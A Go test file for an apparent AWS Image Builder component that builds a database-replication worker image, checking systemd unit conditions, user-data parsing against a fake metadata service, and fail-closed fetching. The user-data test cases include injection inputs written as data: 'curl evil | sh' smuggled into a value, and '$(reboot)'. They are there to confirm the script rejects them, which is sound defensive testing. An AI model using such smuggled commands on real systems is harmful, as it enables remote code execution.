package platform

import (
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"gopkg.in/yaml.v3"
)

// component is the part of an Image Builder component document the tests read.
type component struct {
	Phases []struct {
		Name  string `yaml:"name"`
		Steps []struct {
			Name   string    `yaml:"name"`
			Action string    `yaml:"action"`
			Inputs yaml.Node `yaml:"inputs"`
		} `yaml:"steps"`
	} `yaml:"phases"`
}

type createdFile struct {
	Path, Content string
}

type parsedComponent struct {
	files    map[string]string   // CreateFile path -> content
	commands map[string][]string // "phase/step" -> ExecuteBash commands
}

func parseComponent(t *testing.T, doc string) parsedComponent {
	t.Helper()
	var c component
	if err := yaml.Unmarshal([]byte(doc), &c); err != nil {
		t.Fatalf("component.yaml: %v", err)
	}
	p := parsedComponent{files: map[string]string{}, commands: map[string][]string{}}
	for _, ph := range c.Phases {
		for _, st := range ph.Steps {
			switch st.Action {
			case "CreateFile":
				var files []createdFile
				if err := st.Inputs.Decode(&files); err != nil {
					t.Fatalf("%s: %v", st.Name, err)
				}
				for _, f := range files {
					p.files[f.Path] = f.Content
				}
			case "ExecuteBash":
				var in struct {
					Commands []string `yaml:"commands"`
				}
				if err := st.Inputs.Decode(&in); err != nil {
					t.Fatalf("%s: %v", st.Name, err)
				}
				p.commands[ph.Name+"/"+st.Name] = in.Commands
			}
		}
	}
	return p
}

// unitValue returns the values of key in a systemd unit.
func unitValue(unit, key string) []string {
	var out []string
	for _, l := range strings.Split(unit, "\n") {
		if k, v, ok := strings.Cut(strings.TrimSpace(l), "="); ok && k == key {
			out = append(out, v)
		}
	}
	return out
}

// Image Builder's test stage boots the new AMI with no user data. The worker
// unit must then not start at all (and so never power the instance off, which
// fails the build after about 30 minutes); it starts only when the job unit
// wrote the job's environment file.
func TestWorkerUnitIdlesWithoutAJob(t *testing.T) {
	c := parseComponent(t, componentYAML)
	worker := c.files["/etc/systemd/system/replicator-worker.service"]
	job := c.files["/etc/systemd/system/replicator-job.service"]
	if worker == "" || job == "" {
		t.Fatalf("units missing: %v", c.files)
	}
	cond := unitValue(worker, "ConditionPathExists")
	if len(cond) != 1 || cond[0] != "/run/replicator/job.env" {
		t.Errorf("the worker unit must start only with a job environment file: ConditionPathExists=%v", cond)
	}
	if env := unitValue(worker, "EnvironmentFile"); len(env) != 1 || env[0] != cond[0] {
		t.Errorf("EnvironmentFile %v is not the file the condition checks", env)
	}
	if !strings.Contains(c.files["/usr/local/bin/replicator-job-env"], "OUT=${REPLICATOR_JOB_ENV:-/run/replicator/job.env}") {
		t.Errorf("the job unit does not write the file the worker unit waits for")
	}
	if strings.Contains(job, "poweroff") || len(unitValue(job, "ExecStopPost")) > 0 {
		t.Errorf("the job unit may power the instance off:\n%s", job)
	}
	if req := unitValue(worker, "Requires"); len(req) != 1 || req[0] != "replicator-job.service" {
		t.Errorf("worker unit Requires=%v", req)
	}
	enable := strings.Join(c.commands["build/EnableUnits"], "\n")
	if !strings.Contains(enable, "replicator-job.service") || !strings.Contains(enable, "replicator-worker.service") {
		t.Errorf("units not enabled: %s", enable)
	}
	// Image tests are on, on purpose: they check the idle state.
	test := strings.Join(c.commands["test/IdleWithoutJob"], "\n")
	if !strings.Contains(test, "test ! -e /run/replicator/job.env") || !strings.Contains(test, "pg_dump --version") {
		t.Errorf("test phase: %s", test)
	}
	for path, content := range c.files {
		if strings.HasPrefix(path, "/usr/local/bin/") {
			if strings.Contains(content, "curl -s ") || strings.Contains(content, "curl -sX") {
				t.Errorf("%s: every fetch must be curl -fsS (fail closed)", path)
			}
			if strings.Contains(content, ". /run") || strings.Contains(content, "source ") {
				t.Errorf("%s sources a fetched file", path)
			}
		}
	}
}

// fakeIMDS answers the token and user-data requests; userData "" is a 404.
func fakeIMDS(t *testing.T, userData string) string {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.Method == http.MethodPut && r.URL.Path == "/latest/api/token":
			w.Write([]byte("token"))
		case r.Header.Get("X-aws-ec2-metadata-token") != "token":
			w.WriteHeader(http.StatusUnauthorized)
		case r.URL.Path == "/latest/user-data" && userData != "":
			w.Write([]byte(userData))
		case r.URL.Path == "/latest/meta-data/placement/region":
			w.Write([]byte("eu-west-3"))
		default:
			w.WriteHeader(http.StatusNotFound)
			w.Write([]byte("<html><body>404 - Not Found</body></html>"))
		}
	}))
	t.Cleanup(srv.Close)
	return srv.URL
}

func script(t *testing.T, c parsedComponent, path string) string {
	t.Helper()
	dir := t.TempDir()
	f := filepath.Join(dir, filepath.Base(path))
	if err := os.WriteFile(f, []byte(c.files[path]), 0o755); err != nil {
		t.Fatal(err)
	}
	return f
}

func TestJobEnvFromUserData(t *testing.T) {
	c := parseComponent(t, componentYAML)
	jobEnv := script(t, c, "/usr/local/bin/replicator-job-env")
	for _, tc := range []struct {
		name, userData, want string
	}{
		{"no user data (Image Builder's test instance)", "", ""},
		{"user data of something else", "#!/bin/bash\necho hello\n", ""},
		{"a 404 page would once have been sourced", "<html><body>404 - Not Found</body></html>", ""},
		{"shell in the values is not a job", "REPLICATOR_JOB_ID=j-aaaaaaaaaaaaaaaa\nREPLICATOR_TABLE=t; curl evil | sh\n", ""},
		{"a job", "REPLICATOR_JOB_ID=j-abcdefghijklmnop\nREPLICATOR_TABLE=replicator-prod-jobs\nOTHER=$(reboot)\n",
			"REPLICATOR_JOB_ID=j-abcdefghijklmnop\nREPLICATOR_TABLE=replicator-prod-jobs\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out := filepath.Join(t.TempDir(), "run", "job.env")
			cmd := exec.Command("bash", jobEnv)
			cmd.Env = append(os.Environ(), "REPLICATOR_IMDS="+fakeIMDS(t, tc.userData), "REPLICATOR_JOB_ENV="+out)
			b, err := cmd.CombinedOutput()
			if err != nil {
				t.Fatalf("the job unit failed (an instance without a job must simply idle): %v\n%s", err, b)
			}
			got, err := os.ReadFile(out)
			if tc.want == "" {
				if err == nil {
					t.Errorf("wrote a job environment for no job:\n%s", got)
				}
				return
			}
			if string(got) != tc.want {
				t.Errorf("job environment %q, want %q", got, tc.want)
			}
			if st, _ := os.Stat(out); st.Mode().Perm() != 0o600 {
				t.Errorf("job environment mode %v", st.Mode().Perm())
			}
		})
	}
}

// stubs writes executables into a directory put first on PATH.
func stubs(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, body := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte("#!/bin/bash\n"+body), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func TestWorkerBootFetchesAndFailsClosed(t *testing.T) {
	c := parseComponent(t, componentYAML)
	boot := script(t, c, "/usr/local/bin/replicator-worker-boot")
	imds := fakeIMDS(t, "")
	run := func(config string) (string, error) {
		dir := t.TempDir()
		bin := stubs(t, map[string]string{"aws": `
case "$1 $2" in
  "dynamodb get-item") echo '` + config + `' ;;
  "s3 cp") [ "$4" = "s3://artifacts-bucket/worker/v1/worker" ] || exit 1
           printf '#!/bin/bash\necho "worker ran in $AWS_REGION for $REPLICATOR_JOB_ID"\n' > "$5" ;;
  *) exit 1 ;;
esac`})
		cmd := exec.Command("bash", boot)
		cmd.Env = append(os.Environ(), "PATH="+bin+":"+os.Getenv("PATH"), "REPLICATOR_IMDS="+imds,
			"REPLICATOR_JOB_ID=j-abcdefghijklmnop", "REPLICATOR_TABLE=replicator-prod-jobs", "REPLICATOR_WORKER_BIN="+filepath.Join(dir, "worker"))
		b, err := cmd.CombinedOutput()
		return string(b), err
	}
	out, err := run(`{"Item":{"artifacts_bucket":{"S":"artifacts-bucket"},"worker_key":{"S":"worker/v1/worker"}}}`)
	if err != nil || !strings.Contains(out, "worker ran in eu-west-3 for j-abcdefghijklmnop") {
		t.Errorf("boot: %v\n%s", err, out)
	}
	// The platform's configuration lacks the worker: stop, run nothing.
	out, err = run(`{"Item":{"artifacts_bucket":{"S":"artifacts-bucket"}}}`)
	if err == nil || strings.Contains(out, "worker ran") {
		t.Errorf("boot without a worker key went on: %v\n%s", err, out)
	}
}

// The image carries the newest PostgreSQL client the distribution offers,
// from its newest release: pg_dump must be at least the source's major.
func TestImageInstallsTheNewestPostgresClient(t *testing.T) {
	c := parseComponent(t, componentYAML)
	log := filepath.Join(t.TempDir(), "dnf.log")
	bin := stubs(t, map[string]string{
		"dnf":     `case " $* " in *" repoquery "*) printf 'postgresql15\npostgresql17\n\npostgresql16\npostgresql17-server\npostgresql9\n' ;; *) echo "$@" >> ` + log + ` ;; esac`,
		"pg_dump": `echo "pg_dump (PostgreSQL) 17.6"`,
	})
	cmd := exec.Command("bash", "-c", strings.Join(c.commands["build/PostgresClient"], "\n"))
	cmd.Env = append(os.Environ(), "PATH="+bin+":"+os.Getenv("PATH"))
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, b)
	}
	got, _ := os.ReadFile(log)
	// Amazon Linux 2023 pins its repositories to the image's release: the
	// build moves to the newest first (issue 22, 2: a rebuild must get the
	// latest packages), then installs from it.
	if want := "upgrade -y --releasever=latest\ninstall -y --releasever=latest postgresql17 awscli-2 jq"; strings.TrimSpace(string(got)) != want {
		t.Errorf("dnf %q, want %q", got, want)
	}
}
